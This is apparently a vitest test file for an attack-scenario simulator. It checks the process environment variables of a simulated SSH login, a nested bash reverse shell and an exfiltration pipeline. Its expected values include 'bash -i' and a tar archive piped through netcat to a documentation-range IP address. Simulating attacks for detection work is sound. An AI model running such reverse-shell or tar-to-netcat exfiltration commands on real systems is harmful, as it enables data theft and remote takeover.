import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { compiledOnce } from './flagship.fixture';

const text = readFileSync('scenarios/ssh-reverse-shell-beacon-exfil.yaml', 'utf8');
const c = compiledOnce(text);
const MIN = 60_000;

/** SHLVL, PWD and _ of each of the user's processes, by command line. */
function levels(t: number): string[] {
  const mine = (p: { origin?: string; argv: string[] }) => p.origin === 'revshell' ||
    p.origin === 'exfil' || (p.origin === 'attacker-login' && p.argv[0] === '-bash');
  return c.at(t).processes.filter(mine).sort((a, b) => a.pid - b.pid).map((p) => {
    const get = (n: string) => p.env.find(([k]) => k === n)?.[1] ?? '-';
    return `${p.argv.join(' ').slice(0, 12)}|${get('SHLVL')}|${get('PWD')}|${get('_')}`;
  });
}

describe('process environments follow how each process was started', () => {
  const home = c.byId('attacker-login', 'ssh-login').home;
  it('the login shell has no SHLVL, PWD or _ from sshd; each bash below it exports one level more', () => {
    expect(levels(c.byId('revshell', 'reverse-shell').at + MIN)).toEqual([
      '-bash|-|-|-',
      `bash -c bash|1|${home}|/usr/bin/bash`,
      `bash -c bash|2|${home}|/usr/bin/bash`,
      `bash -i|3|${home}|/usr/bin/bash`,
      `sleep 3600|2|${home}|/usr/bin/sleep`,
    ]);
  });

  it('the exfiltration pipeline typed into bash -i: SHLVL 4, _ the path bash found', () => {
    expect(levels(c.base.now).slice(-2)).toEqual([
      `tar czf - /v|4|${home}|/usr/bin/tar`,
      `nc 198.51.10|4|${home}|/usr/bin/nc`,
    ].map((l) => l.replace('198.51.10', c.byId('exfil', 'exfil').to.addr.slice(0, 9))));
  });
});
